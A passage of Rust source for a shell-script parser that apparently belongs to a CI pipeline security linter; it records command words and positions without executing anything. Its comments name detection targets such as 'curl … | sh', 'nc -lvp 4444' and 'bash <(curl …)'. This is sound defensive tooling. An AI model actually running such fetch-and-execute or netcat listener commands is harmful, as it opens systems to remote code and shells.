//! Static analysis of shell scripts: splits a POSIX sh / bash script into its simple
//! commands and their words, each word a [`MappedText`] that knows the exact byte of the
//! script every decoded byte came from.
//!
//! Rules use this to recognise `curl … | sh`, `nc -lvp 4444`, `wget http://…`,
//! `pip install --index-url http://…` and to point at the offending token. The script is
//! whatever the caller extracted from a pipeline (`sh -c SCRIPT`, Argo `script.source`,
//! Tekton `script`); positions are byte offsets in that string and the caller composes
//! them with the YAML scalar's map.
//!
//! What this module must never do: execute, expand or evaluate anything. Variables,
//! globs, arithmetic and substitutions are kept *literally* in the words (`$HOME`,
//! `${A:-x}`, `$(id)`); only quoting is removed. Scripts found in places where a shell
//! would run them (`$(…)`, backquotes, `<(…)`, `sh -c WORD`, `eval WORD`, `su -c WORD`,
//! `find -exec`, a heredoc or here-string fed to a shell) are parsed too, and their
//! commands are added to the same flat list with a link to where they came from.
//!
//! It is not a full POSIX parser. It aims at: never panicking on any input, bounded
//! recursion ([`MAX_DEPTH`] nested constructs; deeper text is skipped iteratively, not
//! parsed), roughly linear time, exact positions, and the common constructs right. It is
//! deliberately forgiving: a syntax error never stops the analysis, the rest of the
//! script is still split into commands as well as possible.

use std::ops::Range;

use crate::text::MappedText;

/// How many constructs (substitutions, subshells, groups, compound commands, nested
/// `sh -c` scripts, …) may be nested before the parser stops descending. Deeper text is
/// skipped by an iterative scanner, so hostile input cannot exhaust the stack.
pub const MAX_DEPTH: usize = 32;

/// What a substitution that the *outer* shell expands looks like inside a nested script
/// (`sh -c "echo $(id)"`): the inner shell never sees `$(id)`, only its output, and the
/// commands of `$(id)` are already in the list. The placeholder keeps the word a word
/// and maps to the whole substitution in the source.
const SUBST_PLACEHOLDER: &str = "${…}";

/// Every simple command of a script, in source order, flattened.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Script {
    pub commands: Vec<Command>,
    /// Part of the script was not analysed: nesting beyond [`MAX_DEPTH`], or more
    /// nested-script text than the work budget allows. A linter may want to say so, as
    /// deliberately deep nesting can hide commands.
    pub truncated: bool,
}

/// One simple command. Commands inside subshells, groups, `if`/`while`/`for`/`case`
/// bodies and function bodies appear as ordinary commands. Links to other commands are
/// indices into [`Script::commands`] and always point to an *earlier* command.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Command {
    /// argv after quote removal; assignments and redirections are not included.
    /// Expansions (`$X`, `${X:-y}`, `$(…)`, `` `…` ``, `<(…)`) are kept literally.
    pub words: Vec<MappedText>,
    /// Leading `NAME=value` prefixes.
    pub assignments: Vec<Assignment>,
    /// Redirections, in order, including heredocs (target = body).
    pub redirects: Vec<Redirect>,
    /// The command whose stdout feeds this one through `|` or `|&`. When the upstream
    /// stage is a compound command (`{ a; b; } | sh`) this is its last simple command;
    /// when the downstream stage is one (`curl … | (cd /; sh)`), each of its simple
    /// commands gets the link unless a nearer pipe feeds it (commands in its
    /// substitutions and nested scripts do not).
    pub pipe_from: Option<usize>,
    /// The command one of whose words (or assignment values, redirect targets, heredoc
    /// body) contains the substitution this command runs in. `None` when the
    /// substitution is not in a simple command (e.g. `for x in $(ls)`), see
    /// [`Command::substitution`].
    pub in_substitution: Option<usize>,
    /// Set when this command runs inside `$(…)` / backquotes / `<(…)` / `>(…)`.
    pub substitution: Option<SubstitutionKind>,
    /// The command that runs this one as a separate script: `sh -c WORD`, `eval WORD…`,
    /// `su -c WORD`, `find … -exec …`, or a heredoc / here-string fed to a shell. Set on
    /// every command parsed out of that script (including commands in its own
    /// substitutions), except those of scripts nested deeper still, which point at their
    /// own runner. Positions are still relative to the top-level script.
    pub nested_in: Option<usize>,
    /// How [`Command::nested_in`] runs this command.
    pub nested_via: Option<NestedVia>,
    /// Index into `words` of the program really run, after unwrapping `env`, `sudo`,
    /// `doas`, `timeout`, `nice`, `nohup`, `setsid`, `exec`, `command`, `builtin`,
    /// `time`, `xargs`, `stdbuf`, `chroot` and `busybox` with their options.
    /// `None` only when there are no words.
    pub program: Option<usize>,
}

/// A `NAME=value` prefix (also `NAME+=value`, `NAME[i]=value`, `NAME=(a b)`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Assignment {
    /// The name, including any `[subscript]`.
    pub name: MappedText,
    pub value: MappedText,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SubstitutionKind {
    /// `$(…)` or `` `…` ``: its output becomes part of a word.
    Command,
    /// `<(…)`: its output is readable through a file name (`bash <(curl …)` runs it).
    ProcessIn,
    /// `>(…)`: it reads what is written to a file name.
    ProcessOut,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NestedVia {
    /// `sh -c WORD` and the like (`bash -lc`, `sh -ec`, `sudo sh -c`, …).
    ShellC,
    /// `eval WORD…` (the words joined by spaces).
    Eval,
    /// `su -c WORD` / `runuser -c WORD`.
    Su,
    /// `find … -exec CMD… ;` (also `-execdir`, `-ok`, `-okdir`). The nested command's
    /// words are copies of the `find` command's words.
    FindExec,
    /// A heredoc fed to a shell reading its stdin (`sh <<EOF`).
    HereDoc,
    /// A here-string fed to a shell (`bash <<< "…"`).
    HereString,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RedirectOp {
    /// `<`
    In,
    /// `>`
    Out,
    /// `>>`
    Append,
    /// `>|`
    Clobber,
    /// `<>`
    ReadWrite,
    /// `<&`
    DupIn,
    /// `>&`
    DupOut,
    /// `&>` (stdout and stderr)
    OutErr,
    /// `&>>`
    AppendOutErr,
    /// `<<` / `<<-`; `quoted` when the delimiter was quoted, so the body is not expanded.
    HereDoc { strip_tabs: bool, quoted: bool },
    /// `<<<`
    HereString,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redirect {
    pub op: RedirectOp,
    /// An explicit descriptor number (`2>`), if any.
    pub fd: Option<u32>,
    /// Where the operator (after any descriptor number) is in the script.
    pub op_span: Range<usize>,
    /// The target word after quote removal, or the heredoc body (lines after tab
    /// stripping, not expanded). Empty when missing.
    pub target: MappedText,
}

impl Command {
    /// All words, wrappers included (`sudo curl x` gives `sudo`, `curl`, `x`).
    pub fn argv(&self) -> &[MappedText] {
        &self.words
    }

    /// Redirect targets and heredoc bodies, in order.
    pub fn redirect_texts(&self) -> Vec<&MappedText> {
        self.redirects.iter().map(|redirect| &redirect.target).collect()
    }

    /// The word naming the program really run (see [`Command::program`]).
    pub fn program_word(&self) -> Option<&MappedText> {
        self.words.get(self.program?)
    }

    /// The basename of the program really run: `/usr/bin/curl` gives `curl`.
    pub fn program_name(&self) -> Option<&str> {
        self.program_word().map(|word| basename(word.as_str()))
    }

    /// The words after the program.
    pub fn args(&self) -> &[MappedText] {
        match self.program {
            Some(program) => self.words.get(program + 1..).unwrap_or(&[]),
            None => &[],
        }
    }
}

/// Splits `script` into commands. Never panics, whatever the input.
pub fn parse(script: &str) -> Script {
    let mut parser = Parser::new(script, 0);
    // Nested scripts (`sh -c`, `eval`, backquotes, …) are parsed again at each level;
    // this bounds the total so that hostile nesting stays cheap.
    parser.budget = script.len().saturating_mul(8).saturating_add(1 << 16);
    parser.parse_list(Stop::TOP);
    Script { commands: parser.commands, truncated: parser.truncated }
}

/// `/usr/bin/curl` -> `curl`. A word that is a substitution (`` `cmd /x` ``, `$(…)`)
/// is returned whole: its slashes are not a path.
pub fn basename(path: &str) -> &str {
    if path.starts_with(['`', '<', '>']) || path.starts_with("$(") {
        return path;
    }
    // Program names are short (rules ask for one 240,000 times on the corpus): a byte loop
    // from the end is done before `rfind`'s `memrchr` has set up its word-wide search.
    path.bytes().rposition(|byte| byte == b'/').map_or(path, |slash| &path[slash + 1..])
}

// ---------------------------------------------------------------------------------------
// Parser state
// ---------------------------------------------------------------------------------------

/// Where a list of commands ends, besides end of input and (inside parentheses) `)`.
#[derive(Clone, Copy)]
struct Stop {
    keywords: &'static [&'static str],
    /// Inside a `case` arm: `;;`, `;&` and `;;&` end the list.
    case_arm: bool,
}

impl Stop {
    const TOP: Stop = Stop { keywords: &[], case_arm: false };

    const fn until(keywords: &'static [&'static str]) -> Stop {
        Stop { keywords, case_arm: false }
    }
}

/// Reserved words, recognised only when unquoted at the start of a command.
const RESERVED: &[&str] = &[
    "if", "then", "elif", "else", "fi", "do", "done", "case", "esac", "while", "until", "for", "select", "in",
    "function", "coproc", "{", "}", "!",
];

/// Parser-private facts about a command, kept index-aligned with `commands`.
#[derive(Clone, Debug, Default)]
struct Meta {
    /// Commands in the same ctx were written at the same level (same substitution, same
    /// nested script), which is what a pipe connects.
    ctx: usize,
    /// Per word, the decoded ranges this shell expands itself (command and process
    /// substitutions). Masked when the word is re-parsed as a nested script.
    word_substs: Vec<Vec<Range<usize>>>,
    /// The same for redirect targets / heredoc bodies.
    redirect_substs: Vec<Vec<Range<usize>>>,
    /// Positions are already relative to the top-level script (a command merged from a
    /// nested script into a parser that is itself nested).
    absolute: bool,
}

/// A word being lexed.
struct Word {
    text: MappedText,
    substs: Vec<Range<usize>>,
    /// No quoting, escapes or expansions: the word can be a reserved word.
    plain: bool,
    start: usize,
    end: usize,
}

impl Word {
    fn new(start: usize) -> Self {
        Word { text: MappedText::new(), substs: Vec::new(), plain: true, start, end: start }
    }

    /// Appends source text `start..end` unchanged and records it as a substitution.
    fn push_subst(&mut self, raw: &str, start: usize) {
        let decoded_start = self.text.len();
        self.text.push_verbatim(raw, start);
        self.substs.push(decoded_start..self.text.len());
        self.plain = false;
    }
}

struct PendingHeredoc {
    owner: usize,
    redirect: usize,
    fd: Option<u32>,
    delimiter: String,
    strip_tabs: bool,
    quoted: bool,
}

/// Contexts of the iterative skipper used beyond [`MAX_DEPTH`].
#[derive(Clone, Copy, PartialEq, Eq)]
enum Frame {
    Paren,
    Brace,
    DQuote,
    Backtick,
}

/// How the commands of a separately parsed text attach to the current parser.
#[derive(Clone, Copy)]
enum Merge {
    /// Backquoted substitution inside the given command (if any).
    Substitution(Option<usize>),
    /// A script run by the given command.
    Nested(usize, NestedVia),
}

#[derive(Debug, PartialEq, Eq)]
enum ShellInput {
    /// `-c`: the word at this index is the script.
    Script(usize),
    /// No script operand (or `-s`): the script is read from stdin.
    Stdin,
    /// A script file, or `-c` without its word.
    Other,
}

struct Parser<'a> {
    src: &'a str,
    bytes: &'a [u8],
    pos: usize,
    /// Parsing never looks at or beyond this offset (shrunk while scanning a heredoc).
    end: usize,
    depth: usize,
    commands: Vec<Command>,
    meta: Vec<Meta>,
    ctx: usize,
    next_ctx: usize,
    /// The simple command whose words are being lexed.
    cur_cmd: Option<usize>,
    /// The substitution being parsed: its parent command and kind.
    subst: Option<(Option<usize>, SubstitutionKind)>,
    /// Open `(`-constructs: inside one, `)` ends every list.
    paren_level: usize,
    pending: Vec<PendingHeredoc>,
    /// For a parser of a nested script: the map of `src` to the top-level script.
    to_top: Option<&'a MappedText>,
    /// Bytes of nested scripts that may still be parsed.
    budget: usize,
    /// Something was skipped because of [`MAX_DEPTH`] or the budget.
    truncated: bool,
}

fn is_meta(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>')
}

fn ends_unquoted_run(c: u8) -> bool {
    is_meta(c) || matches!(c, b'\r' | b'\\' | b'\'' | b'"' | b'$' | b'`')
}

fn ends_dquoted_run(c: u8) -> bool {
    matches!(c, b'"' | b'\\' | b'$' | b'`')
}

impl<'a> Parser<'a> {
    fn new(src: &'a str, depth: usize) -> Self {
        Parser {
            src,
            bytes: src.as_bytes(),
            pos: 0,
            end: src.len(),
            depth,
            commands: Vec::new(),
            meta: Vec::new(),
            ctx: 0,
            next_ctx: 1,
            cur_cmd: None,
            subst: None,
            paren_level: 0,
            pending: Vec::new(),
            to_top: None,
            budget: 0,
            truncated: false,
        }
    }

    // -- low-level helpers ---------------------------------------------------------------

    fn byte(&self, index: usize) -> Option<u8> {
        if index < self.end { self.bytes.get(index).copied() } else { None }
    }

    fn peek(&self) -> Option<u8> {
        self.byte(self.pos)
    }

    fn slice(&self, range: Range<usize>) -> &'a str {
        self.src.get(range).unwrap_or("")
    }

    /// Length of the character at `index` (1 if it is not a character start), so the
    /// garbage-skipping paths advance by whole characters.
    fn char_len_at(&self, index: usize) -> usize {
        self.src.get(index..).and_then(|rest| rest.chars().next()).map_or(1, char::len_utf8)
    }

    fn fresh_ctx(&mut self) -> usize {
        let ctx = self.next_ctx;
        self.next_ctx += 1;
        ctx
    }

    /// Enters one more nesting level, or refuses beyond [`MAX_DEPTH`].
    fn deeper(&mut self) -> bool {
        if self.depth >= MAX_DEPTH {
            self.truncated = true;
            return false;
        }
        self.depth += 1;
        true
    }

    fn leave(&mut self) {
        self.depth = self.depth.saturating_sub(1);
    }

    /// Spaces, tabs, the `\r` of a CRLF line end and backslash-newline continuations.
    fn skip_blanks(&mut self) {
        loop {
            match (self.peek(), self.byte(self.pos + 1), self.byte(self.pos + 2)) {
                (Some(b' ' | b'\t'), _, _) => self.pos += 1,
                (Some(b'\r'), Some(b'\n'), _) => self.pos += 1,
                (Some(b'\\'), Some(b'\n'), _) => self.pos += 2,
                (Some(b'\\'), Some(b'\r'), Some(b'\n')) => self.pos += 3,
                _ => return,
            }
        }
    }

    fn skip_comment(&mut self) {
        while self.peek().is_some_and(|c| c != b'\n') {
            self.pos += 1;
        }
    }

    /// Consumes a newline token; heredoc bodies start right after it.
    fn consume_newline(&mut self) {
        self.pos += 1;
        if !self.pending.is_empty() {
            self.read_heredocs();
        }
    }

    /// Blanks, newlines and comments (where a command may be continued on the next line).
    fn skip_linebreaks(&mut self) {
        loop {
            self.skip_blanks();
            match self.peek() {
                Some(b'\n') => self.consume_newline(),
                Some(b'#') => self.skip_comment(),
                _ => return,
            }
        }
    }

    /// The reserved word at the current position, if the next token is one.
    fn peek_reserved(&self) -> Option<&'static str> {
        let mut index = self.pos;
        while let Some(c) = self.byte(index) {
            if is_meta(c) || c == b'\r' {
                break;
            }
            index += 1;
            if index - self.pos > 8 {
                return None;
            }
        }
        let word = self.slice(self.pos..index);
        RESERVED.iter().copied().find(|reserved| *reserved == word)
    }

    // -- lists, pipelines, commands ------------------------------------------------------

    fn parse_list(&mut self, stop: Stop) {
        loop {
            self.skip_separators(stop);
            let Some(c) = self.peek() else { return };
            if c == b')' {
                if self.paren_level > 0 {
                    return;
                }
                // A stray `)` at top level: skip it rather than give up.
                self.pos += 1;
                continue;
            }
            if stop.case_arm && self.at_case_terminator().is_some() {
                return;
            }
            if let Some(word) = self.peek_reserved()
                && stop.keywords.contains(&word)
            {
                return;
            }
            let before = self.pos;
            self.parse_pipeline();
            if self.pos == before {
                // Guarantees progress on input no rule above understood.
                self.pos += self.char_len_at(self.pos);
            }
        }
    }

    /// Everything that separates pipelines: `;` `&` `&&` `||` newlines and comments. The
    /// and/or structure does not matter for a flat command list.
    fn skip_separators(&mut self, stop: Stop) {
        loop {
            self.skip_blanks();
            match self.peek() {
                Some(b'\n') => self.consume_newline(),
                Some(b'#') => self.skip_comment(),
                Some(b';') => {
                    if stop.case_arm && matches!(self.byte(self.pos + 1), Some(b';' | b'&')) {
                        return;
                    }
                    self.pos += 1;
                }
                Some(b'&') => {
                    if self.byte(self.pos + 1) == Some(b'>') {
                        return; // `&>file` starts a command
                    }
                    self.pos += 1;
                }
                Some(b'|') => self.pos += 1,
                _ => return,
            }
        }
    }

    fn at_case_terminator(&self) -> Option<usize> {
        match (self.peek(), self.byte(self.pos + 1), self.byte(self.pos + 2)) {
            (Some(b';'), Some(b';'), Some(b'&')) => Some(3),
            (Some(b';'), Some(b';' | b'&'), _) => Some(2),
            _ => None,
        }
    }

    fn parse_pipeline(&mut self) {
        let mut source: Option<usize> = None;
        loop {
            self.skip_blanks();
            while self.peek_reserved() == Some("!") {
                self.pos += 1;
                self.skip_blanks();
            }
            let first = self.commands.len();
            self.parse_command();
            let last = self.commands.len();
            if let Some(source) = source {
                for index in first..last {
                    let same_level = self.meta.get(index).is_some_and(|m| m.ctx == self.ctx);
                    if let Some(command) = self.commands.get_mut(index)
                        && same_level
                        && command.pipe_from.is_none()
                    {
                        command.pipe_from = Some(source);
                    }
                }
            }
            source = self.stage_output(first, last);
            self.skip_blanks();
            if self.peek() == Some(b'|') && self.byte(self.pos + 1) != Some(b'|') {
                self.pos += 1;
                if self.peek() == Some(b'&') {
                    self.pos += 1;
                }
                self.skip_linebreaks();
                continue;
            }
            return;
        }
    }

    /// The command whose output a pipeline stage `first..last` writes: the last command
    /// of the stage's own level, preferring one with words.
    fn stage_output(&self, first: usize, last: usize) -> Option<usize> {
        let level = |index: &usize| self.meta.get(*index).is_some_and(|m| m.ctx == self.ctx);
        let with_words = (first..last)
            .rev()
            .filter(level)
            .find(|index| self.commands.get(*index).is_some_and(|c| !c.words.is_empty()));
        with_words.or_else(|| (first..last).rev().find(level))
    }

    fn parse_command(&mut self) {
        self.skip_blanks();
        if self.peek() == Some(b'(') {
            let arithmetic = self.byte(self.pos + 1) == Some(b'(') && self.try_arith_at(self.pos).is_some();
            if !arithmetic {
                self.parse_subshell();
            }
            self.parse_trailing_redirects();
            return;
        }
        let keyword = match self.peek_reserved() {
            Some(keyword @ ("if" | "while" | "until" | "for" | "select" | "case" | "{" | "function" | "coproc")) => {
                keyword
            }
            _ => {
                self.parse_simple(false);
                return;
            }
        };
        if !self.deeper() {
            // Too deep: read the keyword as a plain word rather than recurse further.
            self.parse_simple(false);
            return;
        }
        match keyword {
            "if" => self.parse_if(),
            "while" | "until" => self.parse_loop(keyword.len()),
            "for" | "select" => self.parse_for(keyword.len()),
            "case" => self.parse_case(),
            "{" => self.parse_group(),
            "function" => self.parse_function(),
            _ => {
                // coproc [NAME] command
                self.pos += keyword.len();
                self.parse_command();
            }
        }
        self.leave();
        self.parse_trailing_redirects();
    }

    fn parse_subshell(&mut self) {
        self.pos += 1;
        if !self.deeper() {
            self.skip_opaque(Frame::Paren);
            return;
        }
        self.paren_level += 1;
        self.parse_list(Stop::TOP);
        self.paren_level -= 1;
        if self.peek() == Some(b')') {
            self.pos += 1;
        }
        self.leave();
    }

    fn parse_group(&mut self) {
        self.pos += 1;
        self.parse_list(Stop::until(&["}"]));
        if self.peek_reserved() == Some("}") {
            self.pos += 1;
        }
    }

    fn parse_if(&mut self) {
        self.pos += 2;
        self.parse_list(Stop::until(&["then"]));
        loop {
            match self.peek_reserved() {
                Some("then") => {
                    self.pos += 4;
                    self.parse_list(Stop::until(&["elif", "else", "fi"]));
                }
                Some("elif") => {
                    self.pos += 4;
                    self.parse_list(Stop::until(&["then"]));
                }
                Some("else") => {
                    self.pos += 4;
                    self.parse_list(Stop::until(&["fi"]));
                }
                Some("fi") => {
                    self.pos += 2;
                    return;
                }
                _ => return,
            }
        }
    }

    fn parse_loop(&mut self, keyword_len: usize) {
        self.pos += keyword_len;
        self.parse_list(Stop::until(&["do"]));
        self.parse_do_done();
    }

    fn parse_do_done(&mut self) {
        match self.peek_reserved() {
            Some("do") => {
                self.pos += 2;
                self.parse_list(Stop::until(&["done"]));
                if self.peek_reserved() == Some("done") {
                    self.pos += 4;
                }
            }
            // bash also accepts `for x in y; { …; }`
            Some("{") => self.parse_group(),
            _ => {}
        }
    }

    fn parse_for(&mut self, keyword_len: usize) {
        self.pos += keyword_len;
        self.skip_blanks();
        if self.peek() == Some(b'(') && self.byte(self.pos + 1) == Some(b'(') {
            self.try_arith_at(self.pos);
        } else {
            let _name = self.lex_word();
        }
        self.skip_linebreaks();
        if self.peek_reserved() == Some("in") {
            self.pos += 2;
            // The word list is not a command; its substitutions still run.
            loop {
                self.skip_blanks();
                if self.lex_word().is_none() {
                    break;
                }
            }
        }
        loop {
            self.skip_linebreaks();
            if self.peek() != Some(b';') {
                break;
            }
            self.pos += 1;
        }
        self.parse_do_done();
    }

    fn parse_case(&mut self) {
        self.pos += 4;
        self.skip_blanks();
        let _subject = self.lex_word();
        self.skip_linebreaks();
        if self.peek_reserved() == Some("in") {
            self.pos += 2;
        }
        loop {
            let before = self.pos;
            self.skip_linebreaks();
            if self.peek_reserved() == Some("esac") {
                self.pos += 4;
                return;
            }
            let Some(c) = self.peek() else { return };
            if c == b')' && self.paren_level > 0 {
                // `$(case x in` without `esac`: let the substitution close.
                return;
            }
            if c == b'(' {
                self.pos += 1;
            }
            // Patterns are words, not commands.
            loop {
                self.skip_blanks();
                match self.peek() {
                    None => return,
                    Some(b'|') => self.pos += 1,
                    Some(b')') => {
                        self.pos += 1;
                        break;
                    }
                    Some(b'\n') => break,
                    Some(_) => {
                        if self.lex_word().is_none() {
                            self.pos += self.char_len_at(self.pos);
                        }
                    }
                }
            }
            self.parse_list(Stop { keywords: &["esac"], case_arm: true });
            if let Some(len) = self.at_case_terminator() {
                self.pos += len;
            }
            if self.pos == before {
                self.pos += self.char_len_at(self.pos);
            }
        }
    }

    /// `function NAME [()] BODY`
    fn parse_function(&mut self) {
        self.pos += "function".len();
        self.skip_blanks();
        let _name = self.lex_word();
        self.at_function_parens();
        self.skip_linebreaks();
        self.parse_command();
    }

    /// Consumes `( )` after a function name, if that is what follows.
    fn at_function_parens(&mut self) -> bool {
        let mut index = self.pos;
        while matches!(self.byte(index), Some(b' ' | b'\t')) {
            index += 1;
        }
        if self.byte(index) != Some(b'(') {
            return false;
        }
        index += 1;
        while matches!(self.byte(index), Some(b' ' | b'\t')) {
            index += 1;
        }
        if self.byte(index) != Some(b')') {
            return false;
        }
        self.pos = index + 1;
        true
    }

    /// Redirections after a compound command (`done < <(curl …)`) are recorded on a
    /// command without words, so their targets and substitutions are not lost.
    fn parse_trailing_redirects(&mut self) {
        self.skip_blanks();
        let mut index = self.pos;
        while self.byte(index).is_some_and(|c| c.is_ascii_digit()) {
            index += 1;
        }
        let redirect = match self.byte(index) {
            Some(b'<' | b'>') => true,
            Some(b'&') => index == self.pos && self.byte(index + 1) == Some(b'>'),
            _ => false,
        };
        if redirect {
            self.parse_simple(true);
        }
    }

    fn parse_simple(&mut self, redirect_only: bool) {
        let index = self.commands.len();
        let (parent, kind) = match self.subst {
            Some((parent, kind)) => (parent, Some(kind)),
            None => (None, None),
        };
        self.commands.push(Command { in_substitution: parent, substitution: kind, ..Command::default() });
        self.meta.push(Meta { ctx: self.ctx, ..Meta::default() });
        let saved = self.cur_cmd.replace(index);
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { break };
            let next = self.byte(self.pos + 1);
            if matches!(c, b'<' | b'>') && next == Some(b'(') {
                if redirect_only {
                    break;
                }
                if let Some(word) = self.lex_word() {
                    self.push_word(index, word);
                }
                continue;
            }
            if self.try_redirect(index) {
                continue;
            }
            if redirect_only || c == b'#' || is_meta(c) || (c == b'\r' && next == Some(b'\n')) {
                break;
            }
            let Some(word) = self.lex_word() else { break };
            if self.commands.get(index).is_some_and(|c| c.words.is_empty()) {
                if self.push_assignment(index, &word) {
                    continue;
                }
                if word.plain && word.text.as_str() == "[[" {
                    self.push_word(index, word);
                    self.lex_conditional(index);
                    continue;
                }
                let bare = self.commands.get(index).is_some_and(|c| c.assignments.is_empty() && c.redirects.is_empty());
                if word.plain && bare && self.at_function_parens() {
                    // `name() BODY`: the name is not a command, the body's commands are.
                    self.cur_cmd = saved;
                    if index + 1 == self.commands.len() {
                        self.commands.pop();
                        self.meta.pop();
                    }
                    if self.deeper() {
                        self.skip_linebreaks();
                        self.parse_command();
                        self.leave();
                    }
                    return;
                }
            }
            self.push_word(index, word);
        }
        self.cur_cmd = saved;
        let empty = self
            .commands
            .get(index)
            .is_some_and(|c| c.words.is_empty() && c.assignments.is_empty() && c.redirects.is_empty());
        if empty {
            if index + 1 == self.commands.len() {
                self.commands.pop();
                self.meta.pop();
            }
            return;
        }
        self.finish_command(index);
    }

    fn push_word(&mut self, index: usize, word: Word) {
        if let (Some(command), Some(meta)) = (self.commands.get_mut(index), self.meta.get_mut(index)) {
            command.words.push(word.text);
            meta.word_substs.push(word.substs);
        }
    }

    /// Records `word` as an assignment if it is one (the name must be written literally).
    fn push_assignment(&mut self, index: usize, word: &Word) -> bool {
        let raw = self.slice(word.start..word.end);
        let Some((name_end, value_start)) = split_assignment(raw) else {
            return false;
        };
        if raw.get(..value_start) != word.text.as_str().get(..value_start) {
            return false; // quoting inside the name part: positions would not line up
        }
        let assignment =
            Assignment { name: word.text.slice(0..name_end), value: word.text.slice(value_start..word.text.len()) };
        match self.commands.get_mut(index) {
            Some(command) => {
                command.assignments.push(assignment);
                true
            }
            None => false,
        }
    }

    /// The words of `[[ … ]]`, where `&&`, `||`, `<`, `>`, `(`, `)` are operators of the
    /// test, not of the shell.
    fn lex_conditional(&mut self, index: usize) {
        let mut parens = 0usize;
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { return };
            match c {
                b'\n' | b';' => return,
                b')' if parens == 0 && self.paren_level > 0 => return,
                b'&' | b'|' | b'<' | b'>' | b'(' | b')' => {
                    let start = self.pos;
                    let len = if matches!(c, b'&' | b'|') && self.byte(start + 1) == Some(c) { 2 } else { 1 };
                    if c == b'(' {
                        parens += 1;
                    } else if c == b')' {
                        parens = parens.saturating_sub(1);
                    }
                    self.pos += len;
                    let mut word = Word::new(start);
                    word.text.push_verbatim(self.slice(start..start + len), start);
                    self.push_word(index, word);
                }
                _ => {
                    let Some(word) = self.lex_word() else {
                        self.pos += self.char_len_at(self.pos);
                        continue;
                    };
                    let done = word.plain && word.text.as_str() == "]]";
                    self.push_word(index, word);
                    if done {
                        return;
                    }
                }
            }
        }
    }

    /// Parses a redirection at the current position, if there is one.
    fn try_redirect(&mut self, index: usize) -> bool {
        let start = self.pos;
        let mut op_start = start;
        while self.byte(op_start).is_some_and(|c| c.is_ascii_digit()) {
            op_start += 1;
        }
        let has_fd = op_start > start;
        let bytes = (self.byte(op_start), self.byte(op_start + 1), self.byte(op_start + 2));
        let (op, len) = match bytes {
            (Some(b'<'), Some(b'<'), Some(b'<')) => (RedirectOp::HereString, 3),
            (Some(b'<'), Some(b'<'), Some(b'-')) => (RedirectOp::HereDoc { strip_tabs: true, quoted: false }, 3),
            (Some(b'<'), Some(b'<'), _) => (RedirectOp::HereDoc { strip_tabs: false, quoted: false }, 2),
            (Some(b'<'), Some(b'>'), _) => (RedirectOp::ReadWrite, 2),
            (Some(b'<'), Some(b'&'), _) => (RedirectOp::DupIn, 2),
            (Some(b'<'), Some(b'('), _) => return false, // process substitution
            (Some(b'<'), _, _) => (RedirectOp::In, 1),
            (Some(b'>'), Some(b'>'), _) => (RedirectOp::Append, 2),
            (Some(b'>'), Some(b'|'), _) => (RedirectOp::Clobber, 2),
            (Some(b'>'), Some(b'&'), _) => (RedirectOp::DupOut, 2),
            (Some(b'>'), Some(b'('), _) => return false,
            (Some(b'>'), _, _) => (RedirectOp::Out, 1),
            (Some(b'&'), Some(b'>'), Some(b'>')) if !has_fd => (RedirectOp::AppendOutErr, 3),
            (Some(b'&'), Some(b'>'), _) if !has_fd => (RedirectOp::OutErr, 2),
            _ => return false,
        };
        let fd = if has_fd { self.slice(start..op_start).parse::<u32>().ok() } else { None };
        let op_span = op_start..op_start + len;
        self.pos = op_span.end;
        self.skip_blanks();
        let word = self.lex_word();
        let (Some(command), Some(meta)) = (self.commands.get_mut(index), self.meta.get_mut(index)) else {
            return true;
        };
        let redirect_index = command.redirects.len();
        if let RedirectOp::HereDoc { strip_tabs, .. } = op {
            let (delimiter, quoted) = match &word {
                Some(word) => {
                    let raw = self.src.get(word.start..word.end).unwrap_or("");
                    (word.text.as_str().to_string(), raw.contains(['\'', '"', '\\']))
                }
                None => (String::new(), false),
            };
            command.redirects.push(Redirect {
                op: RedirectOp::HereDoc { strip_tabs, quoted },
                fd,
                op_span,
                target: MappedText::new(),
            });
            meta.redirect_substs.push(Vec::new());
            self.pending.push(PendingHeredoc {
                owner: index,
                redirect: redirect_index,
                fd,
                delimiter,
                strip_tabs,
                quoted,
            });
        } else {
            let (target, substs) = word.map(|w| (w.text, w.substs)).unwrap_or_default();
            command.redirects.push(Redirect { op, fd, op_span, target });
            meta.redirect_substs.push(substs);
        }
        true
    }

    // -- words -------------------------------------------------------------------------

    /// Lexes one word at the current position; `None` if an operator or the end is there.
    fn lex_word(&mut self) -> Option<Word> {
        let start = self.pos;
        let mut word = Word::new(start);
        while let Some(c) = self.peek() {
            match c {
                b'<' | b'>' if self.pos == start && self.byte(self.pos + 1) == Some(b'(') => {
                    let kind = if c == b'<' { SubstitutionKind::ProcessIn } else { SubstitutionKind::ProcessOut };
                    self.pos += 1;
                    self.parse_subst_paren(kind);
                    word.push_subst(self.slice(start..self.pos), start);
                }
                b'(' if self.at_array_value(&word) => self.lex_array(&mut word),
                b'\r' if self.byte(self.pos + 1) == Some(b'\n') => break,
                b'\r' => {
                    word.text.push_verbatim("\r", self.pos);
                    self.pos += 1;
                }
                _ if is_meta(c) => break,
                b'\\' => self.lex_backslash(&mut word),
                b'\'' => self.lex_single_quoted(&mut word),
                b'"' => {
                    self.pos += 1;
                    word.plain = false;
                    self.lex_dquoted_body(&mut word);
                }
                b'$' => self.lex_dollar(&mut word, false),
                b'`' => self.lex_backtick(&mut word, false),
                _ => self.lex_run(&mut word, ends_unquoted_run),
            }
        }
        word.end = self.pos;
        (self.pos > start).then_some(word)
    }

    /// Appends the run of ordinary characters at the current position.
    fn lex_run(&mut self, word: &mut Word, ends_run: fn(u8) -> bool) {
        let start = self.pos;
        let mut end = start;
        while self.byte(end).is_some_and(|c| !ends_run(c)) {
            end += 1;
        }
        if end == start {
            end = start + self.char_len_at(start);
        }
        word.text.push_verbatim(self.slice(start..end), start);
        self.pos = end;
    }

    fn lex_backslash(&mut self, word: &mut Word) {
        let start = self.pos;
        match (self.byte(start + 1), self.byte(start + 2)) {
            (None, _) => {
                word.text.push_verbatim("\\", start);
                self.pos += 1;
            }
